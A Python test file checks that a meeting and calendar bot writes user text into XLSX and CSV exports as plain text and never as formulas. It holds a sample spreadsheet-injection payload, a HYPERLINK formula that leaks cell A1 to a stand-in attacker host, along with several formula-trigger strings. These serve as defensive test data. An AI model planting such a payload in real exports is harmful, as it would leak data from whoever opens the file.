"""No formula in any file the bot writes (issue 13, finding 4): calendar schedule, meeting workbook, forms CSV."""
from __future__ import annotations

import csv
import io
from datetime import date, time
from io import BytesIO
from urllib.parse import urlsplit

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot import spreadsheets
from handlers.meetings.export import download_url
from models.meetings import Meeting
from tests import demo
from tests.integration.test_calendar_export import add, token
from tests.webhook.test_meetings_items import at, held_meeting_with_items

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"點我")'


def cells(data: bytes) -> list:
    book = load_workbook(BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list:
    found = cells(data)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    return [c.value for c in found]


def test_activity_title_stays_text_in_the_month_schedule(client, services):
    add(services, "桃園市政府警察局中壢分局", HOSTILE, date(2026, 12, 5), time(14), note="-2+3")
    response = client.get(f"/calendar/{token(services)}/schedule.xlsx?m=2026-12")
    assert response.status_code == 200
    values = assert_no_formula(response.data)
    assert HOSTILE in values and "-2+3" in values  # shown exactly as typed, not mangled


def test_tracked_item_subject_stays_text_in_the_meeting_workbook(emulator, services, clock, client):
    held_meeting_with_items(emulator, clock)
    emulator.text(demo.SECRETARIAT, f"列管新增 分局 {HOSTILE}", group_id=demo.GROUP)
    emulator.text(demo.POLICE, "列管回報 1151126-3 @SUM(1+1)")
    emulator.text(demo.SECRETARIAT, "會議 區級聯繫會議 115/12/15 14:00 本所3樓簡報室", group_id=demo.GROUP)
    clock.set(at(2026, 12, 14, 9, 0))
    with services.db.transaction() as session:
        meeting = session.scalars(select(Meeting).order_by(Meeting.starts_at.desc())).first()
        url = urlsplit(download_url(services.config, meeting.id, demo.SECRETARIAT))
    response = client.get(f"{url.path}?{url.query}")
    assert response.status_code == 200
    values = assert_no_formula(response.data)
    assert HOSTILE in values


def test_the_helper_keeps_text_text_and_defuses_csv():
    book = Workbook()
    sheet = book.active
    spreadsheets.append(sheet, ["標題", HOSTILE, "-2+3", "+886", 42, "@cmd"])
    sheet["A2"] = "=1+1"  # a writer that forgot the helper: save() still ships no formula
    values = assert_no_formula(spreadsheets.save(book))
    assert values[:6] == ["標題", HOSTILE, "-2+3", "+886", 42, "@cmd"]
    assert "=1+1" in values
    body = spreadsheets.csv_bytes(["=題目"], [[HOSTILE, "-2+3", " =1", 7, "一般文字"]]).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))
    assert header == ["'=題目"]
    assert row == ["'" + HOSTILE, "'-2+3", "' =1", "7", "一般文字"]
